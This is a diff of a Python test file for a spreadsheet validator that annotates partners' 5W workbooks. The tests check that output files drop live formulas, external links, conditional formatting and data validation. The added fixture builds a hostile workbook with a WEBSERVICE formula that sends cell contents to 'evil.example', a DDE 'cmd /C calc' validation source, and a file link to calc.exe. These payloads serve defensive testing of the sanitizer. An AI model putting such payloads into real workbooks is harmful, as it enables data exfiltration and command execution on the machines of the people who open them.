@@ -56,9 +56,12 @@ _TEXTS = st.text(alphabet="=+-@\tabc1 '", min_size=1, max_size=8).filter(
 )
 
 
-def _partner_book(path: Path, formulas: list[str], texts: list[str], cached: int) -> Path:
-    """A 5W sheet whose row 2 holds `formulas` (saved values `cached`, as Excel saves them)
-    in Activity description and the count columns, and `texts` as text cells."""
+def _partner_book(
+    path: Path, formulas: list[str], texts: list[str], cached: int, *, excel: bool = True
+) -> Path:
+    """A 5W sheet whose row 2 holds `formulas` (saved values `cached`) in the count columns,
+    and `texts` as text cells; saved as Excel saves it, or (`excel=False`) as xlsxwriter
+    does, asking to be recalculated on opening (its saved values are placeholders)."""
     import xlsxwriter
 
     with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False}) as book:
@@ -71,6 +74,18 @@ def _partner_book(path: Path, formulas: list[str], texts: list[str], cached: int
         for offset, text in enumerate(texts):
             sheet.write_string(3, offset, text)
         book.define_name("Secret", '="text of the file"')
+        live = book.add_format({"bold": True})
+        hunt = '=ISNUMBER(SEARCH("x",WEBSERVICE("http://evil.example/?"&A3)))'
+        sheet.conditional_format(1, 0, 5, 0, {"type": "formula", "criteria": hunt, "format": live})
+        sheet.data_validation(1, 1, 5, 1, {"validate": "list", "source": "=cmd|'/C calc'!A0"})
+        sheet.write_url(5, 0, "file:///C:/Windows/System32/calc.exe", string="calc")
+        sheet.write_url(5, 1, "https://ok.example/evidence", string="evidence")
+        sheet.autofilter(0, 0, 5, len(COLUMN_NAMES) - 1)
+        sheet.filter_column_list(0, ["Peruvian Red Cross"])
+    if excel:
+        from kipu.core.demo_regional import _as_excel_saves
+
+        _as_excel_saves(path)
     return path
 
 
@@ -80,32 +95,56 @@ def _partner_book(path: Path, formulas: list[str], texts: list[str], cached: int
 @given(
     formulas=st.lists(st.sampled_from(_FORMULAS), min_size=1, max_size=5),
     texts=st.lists(_TEXTS, min_size=1, max_size=4),
+    excel=st.booleans(),
 )
 def test_the_annotated_workbook_holds_no_formula(
-    tmp_path_factory: pytest.TempPathFactory, reference, formulas: list[str], texts: list[str]
+    tmp_path_factory: pytest.TempPathFactory,
+    reference,
+    formulas: list[str],
+    texts: list[str],
+    excel: bool,
 ) -> None:
     """A partner's `=HYPERLINK(…)` (and any formula) was sent back live in the workbook the
     IM team opens, and their text "=1+1" without its quote prefix: formulas are written as
     the values they saved, such text is quote-prefixed, and defined names go with the rows
     a reader may not see."""
     folder = tmp_path_factory.mktemp("annotated")
-    source = _partner_book(folder / "in.xlsx", formulas, texts, cached=7)
+    source = _partner_book(folder / "in.xlsx", formulas, texts, cached=7, excel=excel)
     result = validate_file(source, reference, today=TODAY)
     for keep in (None, frozenset({2})):
         out = annotate_workbook(source, result.report, folder / "out.xlsx", keep_rows=keep)
         with zipfile.ZipFile(out) as archive:
             sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
-            assert not any(re.search(rb"<f[ >/]", archive.read(n)) for n in sheets)
+            written = b"".join(archive.read(n) for n in sheets)
+            assert not re.search(rb"<f[ >/]", written)
             assert not any("externalLink" in n for n in archive.namelist())
+            assert b"conditionalFormatting" not in written and b"dataValidation" not in written
+            assert b"calc.exe" not in written
+            assert (b"Peruvian Red Cross" in written) == (keep is None)  # the partner's own
+            assert (b"https://ok.example/evidence" in written) == (keep is None)
         book = openpyxl.load_workbook(out)
         sheet = book["5W"]
         first = COLUMN_NAMES.index("girls") + 1
-        assert [sheet.cell(row=2, column=first + i).value for i in range(len(formulas))] == [
-            7
-        ] * len(formulas)
+        # Saved values as Excel saves them; a recalculated workbook's placeholders: none.
+        shown = [sheet.cell(row=2, column=first + i).value for i in range(len(formulas))]
+        assert shown == [7 if excel else None] * len(formulas)
         assert sheet.cell(row=3, column=1).value == (7 if keep is None else None)
         for offset, text in enumerate(texts):
             cell = sheet.cell(row=4, column=offset + 1)
             assert cell.value == (text if keep is None else None)
             assert keep is not None or (cell.data_type == "s" and cell.quotePrefix)
         assert ("Secret" in book.defined_names) == (keep is None)
+
+
+def test_a_large_csv_is_annotated_in_one_pass(tmp_path: Path, reference) -> None:
+    """Each appended row's text was checked by `sheet[sheet.max_row]`, which scans the whole
+    sheet: a 25,000-row CSV took more than ten minutes (a re-tester), 5,000 rows 46 s."""
+    rows = [record(activity_name=f"=A{i}" if i % 1000 == 0 else f"a{i}") for i in range(10_000)]
+    source = write_csv(tmp_path / "big.csv", rows)
+    result = validate_file(source, reference, today=TODAY)
+    out = annotate_workbook(source, result.report, tmp_path / "big.xlsx")
+    sheet = openpyxl.load_workbook(out, read_only=False)["big"]
+    name = COLUMN_NAMES.index("activity_name") + 1
+    assert sheet.max_row == 10_001
+    quoted = [c for (c,) in sheet.iter_rows(min_row=2, min_col=name, max_col=name)]
+    assert [c.value for c in quoted if c.quotePrefix] == [f"=A{i}" for i in range(0, 10_000, 1000)]
